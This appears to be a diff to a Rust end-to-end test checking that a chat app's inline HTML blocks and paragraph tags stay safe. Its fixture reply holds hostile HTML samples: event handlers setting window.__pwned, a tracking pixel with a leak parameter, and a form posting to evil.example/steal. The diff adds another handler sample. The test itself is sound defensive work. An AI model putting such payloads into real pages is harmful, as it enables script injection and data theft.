@@ -1,9 +1,11 @@
-//! Inline HTML blocks in a reply, on the real build in Chromium: a model's "visual
-//! block" renders with its safe markup and layout, its colours become theme tokens that
+//! Inline HTML in a reply, on the real build in Chromium: a model's "visual block" (an
+//! HTML block) renders with its safe markup and layout, its colours become theme tokens that
 //! keep their contrast in both themes, every hostile part stays inert (no script runs,
 //! nothing is fetched, nothing covers the page, no CSP violation), it streams, it comes
 //! back after a reload, and the code that does it (a lazily loaded chunk and the HTML
-//! worker) is not fetched until a reply first holds a block.
+//! worker) is not fetched until a reply first holds a block. In a paragraph or a
+//! Markdown table, formatting tags without attributes (`<kbd>`, `<br>`) render and the
+//! rest stays text.
 
 use hearth_e2e::AppSession;
 use hearth_e2e::chat::{last_status, open_latest, ready, send};
@@ -21,6 +23,8 @@ const REPLY: &str = "Here is the status board.\n\n\
 <table><tr><th colspan=\"2\">Plan</th></tr><tr><td>Mon<br>Tue</td><td><kbd>Ctrl</kbd>+<kbd>K</kbd></td></tr></table>\n\n\
 <details><summary>Sources</summary><a href=\"https://example.com/report\" onclick=\"window.__pwned=5\">report</a> <img src=\"https://tracker.example/pixel.png?leak=1\" onerror=\"window.__pwned=6\"></details>\n\n\
 <form action=\"https://evil.example/steal\"><input name=\"q\" value=\"x\"><button>Send</button></form>\n\n\
+Press <kbd>Ctrl</kbd>+<kbd>K</kbd>, then <b onclick=\"window.__pwned=7\">this</b>.\n\n\
+| day | plan |\n|---|---|\n| Mon | one<br>two |\n\n\
 Done.\n";
 
 /// Facts about the last reply's HTML blocks.
@@ -46,6 +50,9 @@ return {
   th: m.querySelector('.html-block th')?.getAttribute('colspan'),
   kbd: m.querySelectorAll('.html-block kbd').length,
   messageVisible: getComputedStyle(m).display !== 'none',
+  paragraphKbd: [...m.querySelectorAll('kbd')].filter((k) => !k.closest('.html-block')).map((k) => k.textContent),
+  paragraphBold: [...m.querySelectorAll('b')].filter((b) => !b.closest('.html-block')).length,
+  cellBreaks: [...m.querySelectorAll('td br')].filter((b) => !b.closest('.html-block')).length,
   text: blocks.map((b) => b.textContent).join(' | '),
 };";
 
@@ -146,6 +153,21 @@ fn check_blocks(found: &Value) {
         found["messageVisible"],
         json!(true),
         "a block's <style> is gone: {found}"
+    );
+    assert_eq!(
+        found["paragraphKbd"],
+        json!(["Ctrl", "K"]),
+        "formatting tags in a paragraph: {found}"
+    );
+    assert_eq!(
+        found["paragraphBold"],
+        json!(0),
+        "a tag with a handler stays text: {found}"
+    );
+    assert_eq!(
+        found["cellBreaks"],
+        json!(1),
+        "a line break in a Markdown table: {found}"
     );
     let text = found["text"].as_str().unwrap();
     for gone in ["bad frame", "__pwned", "alert", "Send"] {
